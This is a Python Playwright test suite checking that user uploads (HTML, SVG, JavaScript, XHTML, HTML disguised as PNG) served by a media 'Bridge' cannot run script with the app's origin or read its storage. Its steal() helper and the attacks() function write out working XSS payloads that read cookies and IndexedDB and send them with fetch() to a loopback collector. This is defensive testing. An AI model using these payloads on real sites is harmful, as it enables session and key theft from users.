"""What users upload never runs with the app's origin: an HTML page, an SVG with script, a JavaScript file and HTML
disguised as an image, uploaded to the Bridge and opened directly, through an old link on the app's origin, and
from a link in a post, never reach the app's IndexedDB (where a local key lives) or its cookies. Passive media still
shows inline in the app."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page

from tests.bridge.client import call, sha, upload
from tests.e2e.harness import AppUser, Stack, UserFactory
from tests.unit.nostr_keys import keypair

SECRET = keypair(131)[0]
ICON = Path(__file__).resolve().parents[2] / "web" / "static" / "icons" / "icon-192.png"


class Collector:
    """Where a script that ran would send what it stole: a server on loopback that counts what reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *_args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def collector() -> Iterator[Collector]:
    running = Collector()
    yield running
    running.server.shutdown()


def steal(collector: Collector, what: str) -> str:
    """A script that reads the IndexedDB databases and cookies of wherever it runs and sends them away."""
    return (
        "document.title = 'pwned';"
        "(async () => { let dbs = 'none'; try { dbs = JSON.stringify(await indexedDB.databases()) } catch (e) {}"
        f" fetch('{collector.url}/{what}?origin=' + encodeURIComponent(location.origin) + '&dbs='"
        " + encodeURIComponent(dbs) + '&cookie=' + encodeURIComponent(document.cookie)) })()"
    )


def attacks(stack: Stack, collector: Collector) -> dict[str, str]:
    """The attacker's uploads, by kind: their URLs on the blobs' origin."""
    js = upload(stack.media_url, steal(collector, "js").encode(), SECRET, content_type="text/javascript")
    script_path = urlsplit(js).path
    html = (
        f"<!doctype html><title>hi</title><script src='{script_path}'></script>"
        f'<script>{steal(collector, "html")}</script><img src=x onerror="{steal(collector, "onerror")}">'
    )
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"" + steal(collector, "svg-onload") + '">'
        f"<script>{steal(collector, 'svg')}</script></svg>"
    )
    return {
        "html": upload(stack.media_url, html.encode(), SECRET, content_type="text/html"),
        "svg": upload(stack.media_url, svg.encode(), SECRET, content_type="image/svg+xml"),
        "js": js,
        "html as png": upload(stack.media_url, html.encode() + b" ", SECRET, content_type="image/png"),
        "xhtml": upload(
            stack.media_url,
            f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{steal(collector, 'xhtml')}</script></html>".encode(),
            SECRET,
            content_type="application/xhtml+xml",
        ),
    }


def open_directly(page: Page, url: str) -> None:
    """Navigate to `url` as a person pasting it would; a download instead of a page is a fine outcome."""
    try:
        page.goto(url, timeout=10_000)
    except PlaywrightError as exc:
        if "Download is starting" not in str(exc) and "ERR_ABORTED" not in str(exc):
            raise
    page.wait_for_timeout(700)  # time for any script to run and report (through the page: routes are served)


def assert_app_untouched(user: AppUser, collector: Collector) -> None:
    assert collector.hits == [], f"a user's upload ran a script: {collector.hits}"
    user.page.goto(user.app_url)
    user.wait_ready()
    assert user.page.title() != "pwned"
    assert user.page.evaluate("document.cookie") == "session=app-secret"


def test_blob_responses_are_inert_and_media_plays_inline(stack: Stack) -> None:
    html = upload(stack.media_url, b"<script>alert(1)</script>", SECRET, content_type="text/html")
    reply = call(stack.media_url, "GET", urlsplit(html).path)
    assert reply.status == 200
    assert reply.headers["Content-Type"] == "application/octet-stream"
    assert reply.headers["Content-Disposition"] == "attachment"
    assert reply.headers["X-Content-Type-Options"] == "nosniff"
    assert reply.headers["Content-Security-Policy"].startswith("sandbox;")
    icon = upload(stack.media_url, ICON.read_bytes(), SECRET, content_type="image/png")
    reply = call(stack.media_url, "GET", urlsplit(icon).path, headers={"Range": "bytes=0-7"})
    assert (reply.status, reply.body) == (206, ICON.read_bytes()[:8])
    assert (reply.headers["Content-Type"], reply.headers["Content-Disposition"]) == ("image/png", "inline")
    assert "sandbox" in reply.headers["Content-Security-Policy"]
    # the app's origin holds no blob: an old link there is sent to the blobs' origin
    old = call(stack.bridge.url, "GET", urlsplit(html).path)
    assert old.status == 308 and old.headers["Location"] == html
    assert call(stack.bridge.url, "PUT", "/upload").status in (404, 405)


def test_uploaded_pages_and_scripts_never_reach_the_apps_storage(
    new_user: UserFactory, stack: Stack, collector: Collector
) -> None:
    alice = new_user()
    alice.page.evaluate("document.cookie = 'session=app-secret; path=/'")
    assert alice.page.evaluate("indexedDB.databases().then(dbs => dbs.length)") > 0  # where her key is kept
    urls = attacks(stack, collector)
    for kind, url in urls.items():
        open_directly(alice.page, url)
        # and through the app's origin, as a link made before blobs had their own
        open_directly(alice.page, stack.bridge.url + urlsplit(url).path)
        assert collector.hits == [], f"{kind}: {collector.hits}"
    assert_app_untouched(alice, collector)


def test_a_link_to_an_uploaded_page_in_a_post_runs_nothing(
    new_user: UserFactory, stack: Stack, collector: Collector
) -> None:
    alice, bob = new_user(), new_user()
    bob.page.evaluate("document.cookie = 'session=app-secret; path=/'")
    urls = attacks(stack, collector)
    alice.post("look at my page", media_url=urls["html"])
    alice.post("and my drawing", media_url=urls["svg"])
    bob.follow(alice.npub)
    bob.show("feed")
    tabs: list[Page] = []
    bob.context.on("page", lambda tab: tabs.append(tab))
    for text in ("look at my page", "and my drawing"):
        card = bob.post_locator(text)
        card.wait_for()
        link = card.locator(f"a[href='{urls['html']}'], a[href='{urls['svg']}']")
        if link.count():  # else shown as an image: an SVG in <img> runs nothing
            link.first.click()
        bob.page.wait_for_timeout(1000)  # a tab opens (or the browser downloads); any script would report by now
    assert tabs, "the link opens (a tab, or a download that closes it): the feed never swallows a post's link"
    for tab in tabs:
        if tab.is_closed():
            continue  # the browser downloaded it (the Bridge serves a page as an attachment)
        assert tab.url == "about:blank" or urlsplit(tab.url).netloc != urlsplit(stack.app_url).netloc
        try:
            title = tab.title()
        except Exception:  # closed between the two calls: a download
            continue
        assert title != "pwned"
    assert_app_untouched(bob, collector)


def test_a_stream_of_the_app_cannot_be_opened_as_a_page(new_user: UserFactory) -> None:
    """Media the app streams through its service worker (users' bytes on the app's origin) serve media elements
    only: a link that opens one as a page gets 403."""
    carol = new_user()
    carol.page.wait_for_function("navigator.serviceWorker.controller !== null")
    response = carol.page.goto(carol.app_url + "stream/" + sha(b"x")[:40])
    assert response is not None and response.status == 403


def test_passive_media_from_the_bridge_shows_in_the_app(new_user: UserFactory, stack: Stack) -> None:
    dave, erin = new_user(), new_user()
    icon = upload(stack.media_url, ICON.read_bytes(), SECRET, content_type="image/png")
    dave.post("my icon", media_url=icon)
    erin.follow(dave.npub)
    erin.show("feed")
    image = erin.post_locator("my icon").locator(".media img")
    image.wait_for()
    erin.page.wait_for_function("img => img.complete && img.naturalWidth === 192", arg=image.element_handle())
